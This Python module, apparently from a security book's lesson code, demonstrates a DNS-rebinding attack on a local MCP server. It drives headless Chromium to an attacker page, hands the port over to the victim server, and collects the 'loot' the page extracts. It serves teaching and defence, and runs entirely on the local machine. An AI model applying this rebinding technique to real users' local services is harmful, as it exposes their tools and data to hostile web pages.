"""The attack in a real browser: Chromium opens the attacker's page, and the page does the rest.

Nothing here leaves the machine. The name is mapped to 127.0.0.1 by the browser's own resolver
rules, and what rebinding changes, who answers under that name, is changed by handing over the
port: the attacker's server serves the page and closes, then the MCP server binds the same port.
"""

from __future__ import annotations

import importlib.util
import json
import os
import shutil
from contextlib import asynccontextmanager
from pathlib import Path
from typing import TYPE_CHECKING, Any

from starlette.responses import HTMLResponse, PlainTextResponse

from chapters.c06.lesson.rebinding import ATTACKER, STEPS, Loot, script_request
from chapters.c06.serving import bound_socket, serving

if TYPE_CHECKING:
    from collections.abc import AsyncIterator, Callable
    from contextlib import AbstractAsyncContextManager

    from playwright.async_api import Page
    from starlette.types import Receive, Scope, Send

PAGE = Path(__file__).with_name("attack.html")
PATIENCE = 20_000  # milliseconds: for the page to load, and for it to show what it found

_EXECUTABLES = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
_FLAGS = (
    f"--host-resolver-rules=MAP {ATTACKER} 127.0.0.1, MAP *.{ATTACKER} 127.0.0.1",
    "--no-proxy-server",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
)


def missing() -> str | None:
    """Return what this machine lacks for the browser attack, as a sentence, or None."""
    if importlib.util.find_spec("playwright") is None:
        return "The Python package playwright is not installed."
    if executable() is None:
        return "There is no Chromium on the PATH (on Debian: apt-get install chromium)."
    return None


async def browser_attack(
    victim: Callable[[int], AbstractAsyncContextManager[object]], *, name: str = ATTACKER
) -> Loot:
    """Return what the attacker's page shows after ``victim``, given the port, serves in its place.

    ``victim`` is entered once the attacker's server is gone, and must be listening on
    127.0.0.1 at the port when its context begins. ``name`` is the attacker's, or any under it.
    Raises playwright's errors where the browser does not start or the page shows nothing in
    :data:`PATIENCE` milliseconds.
    """
    async with _browser_page() as page:
        async with serving(_attacker, bound_socket(), grace=0) as port:
            await page.goto(f"http://{name}:{port}/")
        async with victim(port):
            loot = page.locator("#loot:not(:empty)")
            found = json.loads(await loot.inner_text())
    return Loot(found["status"], tuple(found["tools"]), found["text"])


@asynccontextmanager
async def _browser_page() -> AsyncIterator[Page]:
    # Imported here because only this part of the book needs it, and most readers have it not.
    from playwright.async_api import async_playwright  # noqa: PLC0415

    async with async_playwright() as driver:
        browser = await driver.chromium.launch(  # with a profile of its own, gone afterwards
            executable_path=executable(),
            headless=True,
            args=list(_FLAGS),
            # Chromium's sandbox does not work for root, which is who a container runs as.
            chromium_sandbox=os.geteuid() != 0,
        )
        try:
            page = await browser.new_page()
            page.set_default_timeout(PATIENCE)
            yield page
        finally:
            await browser.close()


async def _attacker(scope: Scope, receive: Receive, send: Send) -> None:
    if scope["type"] == "lifespan":
        await _no_lifespan(receive, send)
    elif scope["path"] == "/":
        await HTMLResponse(_page(), headers={"Connection": "close"})(scope, receive, send)
    else:
        await PlainTextResponse("Not yet.", status_code=404)(scope, receive, send)


def _page() -> str:
    steps: list[dict[str, Any]] = [
        script_request(number, method, params)
        for number, (method, params) in enumerate(STEPS, start=1)
    ]
    return PAGE.read_text(encoding="utf-8").replace("/*STEPS*/ []", json.dumps(steps))


async def _no_lifespan(receive: Receive, send: Send) -> None:
    for phase in ("startup", "shutdown"):
        await receive()
        await send({"type": f"lifespan.{phase}.complete"})


def executable() -> str | None:
    """Return the path of this machine's Chromium, or None."""
    return next(filter(None, map(shutil.which, _EXECUTABLES)), None)
